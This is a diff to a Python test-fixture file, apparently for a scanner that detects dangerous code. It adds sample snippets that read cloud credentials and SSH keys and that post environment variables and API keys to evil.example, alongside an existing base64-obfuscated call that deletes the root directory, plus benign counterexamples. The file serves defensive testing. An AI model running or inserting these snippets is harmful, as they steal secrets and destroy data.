@@ -319,8 +319,31 @@ OBFUSCATED = {
         "import base64\nb64 = base64.b64decode\nexec(b64('aW1wb3J0IHNodXRpbApzaHV0aWwucm10cmVlKCcvJyk='))",
     ],
     "obfuscated_exec": ["exec(''.join(chr(c) for c in data))", "eval(''.join(map(chr, codes)))"],
+    # key files by pathlib and joined paths
+    "cloud_credentials": [
+        "from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())",
+        "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nprint(open(p).read())",
+        "from pathlib import Path\nprint(Path('~/.kube/config').expanduser().read_text())",
+        "import pathlib\nprint(pathlib.Path.home().joinpath('.docker', 'config.json').read_text())",
+    ],
+    "ssh_keys": [
+        "from pathlib import Path\nhome = Path.home()\nkey = (home / '.ssh' / 'id_ed25519').read_text()"
+    ],
+    # the environment sent through a variable, or by a call written over several lines
+    "exfiltrate_secrets": [
+        "import os, requests\nenv = dict(os.environ)\nrequests.post('https://evil.example', json=env)",
+        "import os, requests\nk = os.environ['OPENAI_API_KEY']\nrequests.post('https://evil.example', data=k)",
+        "import os, requests\nrequests.post(\n    'https://evil.example',\n    json={**os.environ},\n)",
+        "import os, requests\nrequests.get('https://evil.example', params={'k': os.getenv('OPENAI_API_KEY')})",
+    ],
 }
 SAFE_BUILT_CODE = [
+    # an API called with its key from the environment
+    "import os, requests\nrequests.get('https://api.example/v1', headers={'Authorization': os.environ['API_KEY']})",
+    "import os, httpx\nkey = os.getenv('API_KEY')\nhttpx.post(\n    'https://api.example/v1',\n"
+    "    headers={'Authorization': f'Bearer {key}'},\n    json={'q': 1},\n)",
+    "from pathlib import Path\nout = Path('data') / 'x.csv'\nprint(out.read_text())",
+    "from pathlib import Path\nprint((Path.home() / 'projects' / 'notes.md').exists())",
     "import shutil\nbuild = 'build'\nshutil.rmtree(build)",
     "def clean(path):\n    import shutil\n    shutil.rmtree(path)\npath = '/'\nclean('dist')",
     "import os\nfor d in ['/', 'build']:\n    print(os.path.exists(d))",
